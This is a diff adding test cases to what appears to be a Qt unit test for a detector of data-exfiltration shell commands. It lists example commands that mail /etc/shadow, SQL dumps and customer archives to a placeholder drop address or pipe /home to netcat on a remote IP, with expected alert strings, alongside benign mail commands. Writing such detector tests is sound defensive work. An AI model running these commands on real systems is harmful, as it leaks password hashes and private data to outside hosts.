@@ -57,6 +57,15 @@ private slots:
         row("sudo tar czf - /home | nc 198.51.100.7 4444", "nc output of tar /home -> 198.51.100.7 raw data");
         row("aws s3 cp dump.sql.gz s3://bucket/a/b", "aws dump.sql.gz -> s3://bucket data");
         row("aws s3 cp s3://bucket/a .", "");
+        row("mail -s x drop@files.example -A /srv/dump.sql < /dev/null", "mail /srv/dump.sql -> files.example data");
+        row("echo hi | mutt -s x -a /srv/kunden.zip -- drop@files.example", "mutt /srv/kunden.zip -> files.example data");
+        row("swaks --to drop@files.example --server mx --attach @/etc/shadow", "swaks /etc/shadow -> files.example data");
+        row("mysqldump shop | gzip | mail -s x drop@files.example", "mail output of mysqldump -> files.example data");
+        row("mail -s shadow drop@files.example < /etc/shadow", "mail /etc/shadow -> files.example data");
+        row("df -h | mail -s report admin@example.org", "");
+        row("mail -s report admin@example.org < /tmp/report.txt", "");
+        row("echo x | mail -a 'From: root <root@example.org>' -s x admin@example.org", "");
+        row("tar czf - /etc | mail root", "");
         row("nc 198.51.100.7 4444 < /etc/shadow", "nc /etc/shadow -> 198.51.100.7 raw data");
         row("tar czf - /home | nc -q 1 198.51.100.7 4444", "nc output of tar /home -> 198.51.100.7 raw data");
         row("tar cf - /home | gzip | base64 | nc 198.51.100.7 4444", "nc output of tar /home -> 198.51.100.7 raw data");
